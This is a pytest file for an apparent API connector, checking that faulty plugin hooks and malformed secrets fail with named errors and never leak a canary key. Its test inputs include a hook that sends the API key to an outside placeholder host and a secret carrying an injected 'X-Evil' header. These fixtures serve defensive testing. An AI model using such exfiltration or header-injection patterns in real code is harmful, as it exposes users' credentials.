"""Requests that cannot be made: told in words of ours, with no secret in the words or in the frames they passed."""

from __future__ import annotations

from pathlib import Path
from types import TracebackType
from typing import Any

import httpx
import pytest
from endpoint_room import API, CANARY, TOKEN, Room, get

from connector.errors import ConnectorError, NotAuthorizedError, PluginError, SecretMissingError
from connector.identity import identify

KEYS: dict[str, Any] = {"grants": ["api_key"], "api": {"base_url": API}}


def spilled(error: BaseException) -> str:
    """All that a crash reporter shows: words, variables of ours, requests, and what it came from."""
    shown = [repr(error), str(error), repr(vars(error))]
    request = getattr(error, "_request", None)
    if request is not None:
        shown += [str(request.url), str(request.headers.raw)]
    trace: TracebackType | None = error.__traceback__
    while trace is not None:
        if "connector/" in trace.tb_frame.f_code.co_filename:
            shown.append(repr(dict(trace.tb_frame.f_locals)))
        trace = trace.tb_next
    inner = [one for one in (error.__cause__, error.__context__) if one is not None]
    return "\n".join([*shown, *map(spilled, inner)])


@pytest.mark.parametrize(
    "body",
    [
        'raise ValueError(situation.values["api_key"])',
        "return Call(url=f\"https://elsewhere.example/?k={situation.values['api_key']}\", headers=call.headers)",
        'return Call(url="http://api.acme.example/x", headers=call.headers)',
        'return Call(url="https://[", headers=call.headers)',
        "return None",
        "return call.headers",
        'return call.with_headers({"X-Key": 7})',
        'return call.with_headers({"X-Key": "h\\u00e9 " + situation.values["api_key"]})',
        'raise connector.errors.ConnectorError("mine")',
    ],
)
@pytest.mark.parametrize("place", [{}, {"in": "query", "name": "key"}])
def test_a_hook_that_is_wrong(kind: str, body: str, place: dict[str, str], tmp_path: Path) -> None:
    """Its mistake is an error that names it; nothing leaves, and no frame shows the key."""
    api = {"base_url": API, **({"token": place} if place else {})}
    room = Room(tmp_path, {**KEYS, "api": api, "plugin": "acme_hooks:Acme"}, {"api_key": "${env:ACME_KEY}"})
    room.hooks(
        f"""
        import connector.errors
        from connector.endpointhooks import Call, EndpointHooks

        class Acme(EndpointHooks):
            def authenticate_request(self, call, situation):
                {body}
        """
    )
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ACME_KEY", CANARY)
        with room.host() as host, pytest.raises(ConnectorError) as caught:
            get(host, kind, "/x")
    assert isinstance(caught.value, PluginError) or "mine" in body
    assert room.seen == []
    assert CANARY not in spilled(caught.value)


def test_a_hook_may_change_the_body(tmp_path: Path) -> None:
    """How long it is then is told anew."""
    room = Room(tmp_path, {**KEYS, "plugin": "acme_hooks:Acme"}, {"api_key": "${env:ACME_KEY}"})
    room.hooks(
        """
        from dataclasses import replace
        from connector.endpointhooks import EndpointHooks

        class Acme(EndpointHooks):
            def authenticate_request(self, call, situation):
                return replace(call, body=call.body + b" and more")
        """
    )
    room.answers["POST api.acme.example/x"] = {}
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ACME_KEY", CANARY)
        with room.host() as host, host.client("acme") as http:
            http.post("/x", content=b"this")
    [sent] = room.seen
    assert sent.content == b"this and more"
    assert sent.headers["Content-Length"] == "13"


@pytest.mark.parametrize("secret", [f"{CANARY}\n", f"{CANARY}é", f"{CANARY}\r\nX-Evil: 1"])
@pytest.mark.parametrize(
    "api",
    [
        {},
        {"token": {"in": "cookie", "name": "k"}},
        {"headers": {"X-Key": "{api_key}"}, "token": {"in": "none"}},
    ],
)
def test_a_key_that_fits_in_no_header(kind: str, secret: str, api: dict[str, Any], tmp_path: Path) -> None:
    """Told with the place of the reference, before anything is made of it."""
    room = Room(tmp_path, {**KEYS, "api": {"base_url": API, **api}}, {"api_key": "${env:ACME_KEY}"})
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ACME_KEY", secret)
        with (
            room.host() as host,
            pytest.raises(SecretMissingError, match="ACME_KEY} leads to holds") as caught,
        ):
            get(host, kind, "/x")
    assert "manifest.yaml:3:" in str(caught.value)
    assert room.seen == []
    assert CANARY not in spilled(caught.value)


def test_a_setting_that_fits_in_no_header(kind: str, tmp_path: Path) -> None:
    """Clients refuse it in words that repeat it, so it does not reach them."""
    api = {"base_url": API, "headers": {"X-Key": "{app}"}, "token": {"in": "none"}}
    endpoint = {"grants": ["none"], "settings": {"app": {"x-secret": True}}, "api": api}
    room = Room(tmp_path, endpoint, {"settings": {"app": "${env:ACME_KEY}"}})
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ACME_KEY", f"{CANARY}é")
        with room.host() as host, pytest.raises(NotAuthorizedError) as caught:
            get(host, kind, "/x")
    assert caught.value.code == "unsendable"
    assert room.seen == []
    assert CANARY not in spilled(caught.value)


@pytest.mark.parametrize(
    ("answer", "words"),
    [
        ({}, "instance_url"),
        ({"instance_url": "ftp://x"}, "https"),
        ({"instance_url": "https://u:p@x"}, "user"),
    ],
)
@pytest.mark.parametrize("url", ["/x", f"{API}/x"])
def test_an_api_whose_place_was_not_told(
    kind: str, answer: dict[str, str], words: str, url: str, tmp_path: Path
) -> None:
    """What the token reply should have brought is named."""
    room = Room(
        tmp_path,
        {
            "grants": ["client_credentials"],
            "token": TOKEN,
            "response": {"capture": {"instance_url": "/instance_url"}},
            "api": {"base_url": "{instance_url}"},
        },
        {"client_id": "me", "client_auth": "none"},
    )
    room.answers["POST login.acme.example/token"] = {"access_token": "t", "expires_in": 60, **answer}
    with room.host() as host, pytest.raises(NotAuthorizedError, match=words) as caught:
        get(host, kind, url)
    assert caught.value.code == "incomplete_account"


def test_a_step_whose_path_lacks_something(tmp_path: Path) -> None:
    """Its call goes nowhere else instead."""
    room = Room(
        tmp_path,
        {
            "grants": ["client_credentials"],
            "token": TOKEN,
            "response": {"capture": {"person": "/person"}},
            "discover": {"path": "/people/{person}", "set": {"team": "/team"}},
            "api": {"base_url": API, "headers": {"X-Team": "{team}"}},
        },
        {"client_id": "me", "client_auth": "none"},
    )
    room.answers["POST login.acme.example/token"] = {"access_token": "t", "expires_in": 60}
    room.answers["GET api.acme.example/"] = {"team": "wrong"}
    with (
        room.host() as host,
        pytest.raises(NotAuthorizedError, match=r"finding out team.*\{person\}") as caught,
    ):
        get(host, "sync", "/x")
    assert caught.value.code == "incomplete_account"
    assert [request.url.path for request in room.seen] == ["/token"]


def test_a_test_call_that_breaks_off(tmp_path: Path) -> None:
    """`identify` sends what its endpoint says; no frame of its error shows it."""
    test = {"path": "/me", "headers": {"X-Also": "{api_key}"}}
    room = Room(tmp_path, {**KEYS, "test": test}, {"api_key": "${env:ACME_KEY}"})

    def broken(request: httpx.Request) -> httpx.Response:
        raise httpx.ReadError("gone", request=None)

    room.answers["GET api.acme.example/me"] = broken
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("ACME_KEY", CANARY)
        with room.host() as host, host.client("acme") as http, pytest.raises(httpx.ReadError) as caught:
            identify(host.accounts["acme"], host.token("acme"), http)
    trace, shown = caught.value.__traceback__, []
    while trace is not None:
        if "connector/" in trace.tb_frame.f_code.co_filename:
            shown.append(repr(dict(trace.tb_frame.f_locals)))
        trace = trace.tb_next
    assert any("account" in frame for frame in shown)
    assert CANARY not in "".join(shown)
